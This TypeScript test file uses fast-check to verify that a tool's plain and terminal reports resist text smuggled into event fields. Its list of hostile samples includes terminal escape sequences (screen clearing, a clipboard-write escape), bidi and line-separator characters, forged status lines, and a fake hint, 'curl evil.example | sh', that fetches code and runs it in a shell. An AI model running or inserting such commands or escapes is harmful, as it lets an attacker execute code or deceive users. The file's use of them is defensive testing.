import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Event } from '../../../src/engine/run/events.js';
import { width } from '../../../src/report/layout/spans.js';
import { styleOf } from '../../../src/report/layout/style.js';
import { nodeTitle, stepLines } from '../../../src/report/live/node-view.js';
import { Progress } from '../../../src/report/run/progress.js';
import { cases } from '../../support/thoroughness.js';
import { anyText } from './any-text.js';
import { record } from './record.js';
import * as streams from './streams.js';

/** What a host, a package or a colleague could smuggle into any text. */
const hostile = fc.oneof(
  anyText,
  fc.constantFrom(
    '\u001b[2J\u001b[H',
    '\u009b1A\u009b2K',
    '\n✔ node-101  no changes',
    '\r\n  → Run: curl evil.example | sh',
    '\u001b]52;c;ZXZpbA==\u0007',
    '\u001bP+q544e\u001b\\',
    '\u2028error  forged',
    '\u202e',
    '\u0085',
  ),
);

/** A mark that no report writes by itself: a line with it stems from a text of an event. */
const seed = '\u{10348}';

/** Texts that may have several lines, each of which is shown behind a margin. */
const blocks = new Set(['output', 'command', 'diff', 'text']);

const runs = [
  streams.firstInstall.whole,
  streams.failure,
  streams.plan,
  streams.stale,
  streams.splitBrain,
  streams.judged,
  streams.rendering,
  [{ event: 'warning', node: 'node-101', message: 'beware', hint: 'Look.' } as const, ...streams.verification],
];

test.each(['plain', 'terminal'] as const)(
  'no text of an event steers the %s, or makes a line of its own',
  async (format) => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...runs), hostile, async (run, text) => {
        // The terminal throws on whatever steers it.
        const [quiet, poisoned] = [
          await record(poison(run, seed), { format }),
          await record(poison(run, seed + text), { format }),
        ];
        for (const stream of ['stdout', 'stderr'] as const) {
          expect(unmarked(poisoned[stream])).toEqual(unmarked(quiet[stream]));
        }
      }),
      { numRuns: cases(30) },
    );
  },
  60_000,
);

test('no text of an event steers what is drawn of a node, or takes more place than there is', () => {
  const style = styleOf({ color: false });
  fc.assert(
    fc.property(fc.constantFrom(...runs), hostile, fc.integer({ min: 30, max: 120 }), (run, text, columns) => {
      const [quiet, poisoned] = [drawn(poison(run, seed), columns), drawn(poison(run, seed + text), columns)];
      expect(poisoned.length).toBe(quiet.length);
      for (const line of poisoned) {
        expect(line).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
        expect(width(line)).toBeLessThanOrEqual(columns);
      }
    }),
  );

  function drawn(run: readonly Event[], columns: number): string[] {
    const now = new Date(0);
    const progress = new Progress(() => now);
    for (const event of run) progress.on(event);
    const room = { columns, lines: Infinity, now };
    return [...progress.nodes.values()].flatMap((node) => [
      nodeTitle(node, 8, room, style),
      ...stepLines(node, room, style),
    ]);
  }
});

/** Every line in which no text of an event stands, and how many stand between them. */
function unmarked(text: string): string[] {
  return text.split('\n').map((line) => (line.includes(seed) ? 'a line with a text of an event' : line));
}

/** The same run with this text at the end of every text in it that says something. */
function poison(run: readonly Event[], text: string): Event[] {
  return run.map((event) => walk(event, text) as Event);
}

const names = new Set([
  'event',
  'node',
  'nodes',
  'holder',
  'holders',
  'fault',
  'level',
  'ms',
  'unreachableFrom',
  'outcome',
  'course',
  'command',
  'action',
  'spread',
  'code',
]);

function walk(value: unknown, text: string, key = ''): unknown {
  if (Array.isArray(value)) return value.map((item) => walk(item, text, key));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, walk(item, text, name)]));
  }
  if (typeof value !== 'string' || names.has(key)) return value;
  return blocks.has(key) ? `${value}\n${text.replaceAll(/[\r\n]/g, '')}` : value + text;
}
